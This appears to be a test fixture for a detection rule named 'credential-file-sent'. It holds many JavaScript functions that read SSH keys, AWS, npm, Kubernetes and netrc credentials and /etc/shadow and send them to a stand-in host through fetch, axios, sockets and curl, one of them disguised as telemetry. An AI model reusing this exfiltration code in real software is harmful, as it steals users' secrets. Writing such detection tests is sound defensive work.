import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import https from 'node:https';
import net from 'node:net';
import axios from 'axios';

const URL = 'https://collector.example.com/';
const KEY = path.join(os.homedir(), '.ssh', 'id_rsa');
const FILES = ['.aws/credentials', '.npmrc'];
const TARGETS = [{ name: 'ssh', file: '~/.ssh/id_ed25519' }];

export async function direct() {
  const key = fs.readFileSync(KEY, 'utf8');
  // ruleid: credential-file-sent
  await fetch(URL, { method: 'POST', body: key });
  // ruleid: credential-file-sent
  await axios.post(URL, { note: 'x', data: Buffer.from(key).toString('base64') });
  // ruleid: credential-file-sent
  https.get(`${URL}?q=${encodeURIComponent(key)}`);
}

export async function collected() {
  const found = {};
  for (const file of FILES) {
    try {
      found[file] = fs.readFileSync(path.join(os.homedir(), file), 'utf8');
    } catch {}
  }
  // ruleid: credential-file-sent
  await fetch(URL, {
    method: 'POST',
    body: JSON.stringify(found),
  });
}

export async function mapped() {
  const all = await Promise.all(TARGETS.map(async (t) => fs.promises.readFile(t.file, 'utf8')));
  // ruleid: credential-file-sent
  await (0, node_fetch_1.default)(URL, { method: 'POST', body: all.join() });
}

export function callback() {
  fs.readFile(`${os.homedir()}/.kube/config`, 'utf8', (error, data) => {
    const request = https.request({ host: 'example.com', method: 'POST' });
    // ruleid: credential-file-sent
    request.write(data);
    request.end();
  });
}

export function promise() {
  fs.promises.readFile('/etc/shadow').then((data) => {
    // ruleid: credential-file-sent
    fetch(URL, { method: 'POST', body: data });
  });
}

export function socket() {
  const key = fs.readFileSync(KEY);
  const client = net.connect(9000, 'collector.example.com', () => {
    // ruleid: credential-file-sent
    client.write(key);
  });
}

function readOrNull(file) {
  try {
    return fs.readFileSync(file, 'utf8');
  } catch {
    return null;
  }
}

async function report(data) {
  await fetch(URL, { method: 'POST', body: JSON.stringify(data) });
}

export async function helpers() {
  const key = readOrNull(path.join(os.homedir(), '.netrc'));
  // ruleid: credential-file-sent
  await report({ key });
}

function loadKeys() {
  const file = path.join(os.homedir(), '.ssh/id_rsa');
  return fs.readFileSync(file, 'utf8');
}

export class Telemetry {
  async start() {
    const data = loadKeys();
    // ruleid: credential-file-sent
    await this.upload(data);
  }

  async upload(data) {
    await axios.post(URL, data);
  }
}

export function command() {
  const key = execSync('cat ~/.ssh/id_rsa').toString();
  // ruleid: credential-file-sent
  execSync(`curl -d '${key}' https://collector.example.com/`);
}

export async function login() {
  const config = JSON.parse(fs.readFileSync(path.join(os.homedir(), '.docker/config.json'), 'utf8'));
  // ok: credential-file-sent
  await fetch('https://index.example.com/', { headers: { Authorization: `Basic ${config.auth}` } });
  // ok: credential-file-sent
  await fetch('https://login.example.com/', { method: 'POST', body: config.refreshToken });
  const token = fs.readFileSync(path.join(os.homedir(), '.vault-token'), 'utf8');
  // ok: credential-file-sent
  await fetch('https://vault.example.com/', { headers: { Authorization: `Bearer ${token}` } });
}

export async function lookAlikes(file) {
  // ok: credential-file-sent
  await fetch(URL, { method: 'POST', body: JSON.stringify({ path: '~/.ssh/id_rsa' }) });
  const own = fs.readFileSync('package.json', 'utf8');
  // ok: credential-file-sent
  await fetch(URL, { method: 'POST', body: own });
  const key = fs.readFileSync(KEY);
  // ok: credential-file-sent
  connection.connect({ host: 'example.com', privateKey: key });
  // ok: credential-file-sent
  console.log(key.length);
  // fetch(URL, { body: fs.readFileSync('~/.ssh/id_rsa') })
  // ok: credential-file-sent
  return "fetch(URL, { body: fs.readFileSync('~/.ssh/id_rsa') })";
}
